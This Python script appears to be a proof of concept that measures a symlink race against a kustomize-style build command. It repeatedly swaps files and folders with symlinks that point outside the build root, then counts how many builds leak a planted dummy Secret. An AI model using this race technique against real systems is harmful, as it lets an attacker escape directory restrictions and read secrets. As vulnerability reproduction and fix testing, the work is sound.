"""Builds while a file, or the folder above it, is swapped for a link out of the root all the time. Prints the leaks.

usage: swap.py COUNT PROGRAM
"""

import ctypes
import os
import subprocess
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100


def swap_forever(one: str, other: str) -> None:
    libc = ctypes.CDLL(None)
    a, b = one.encode(), other.encode()
    while True:
        libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)


def write(path: str, text: str) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def leaks(count: int, program: str, resource: str, one: str, other: str) -> int:
    write("k/kustomization.yaml", f"resources: [{resource}]\n")
    child = os.fork()
    if child == 0:
        swap_forever(one, other)
    try:
        runs = (subprocess.run([program, "build", "k"], capture_output=True, timeout=100) for _ in range(count))
        return sum(b"stolen" in run.stdout for run in runs)
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)


count, program = int(sys.argv[1]), sys.argv[2]
write("evil/r.yaml", "apiVersion: v1\nkind: Secret\nmetadata: {name: stolen}\n")
for path in ("k/r.yaml", "k/sub/r.yaml"):
    write(path, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n")
os.symlink("../evil/r.yaml", "k/link.yaml")
os.symlink("../evil", "k/link")
print(leaks(count, program, "r.yaml", "k/r.yaml", "k/link.yaml")
      + leaks(count, program, "sub/r.yaml", "k/sub", "k/link"))
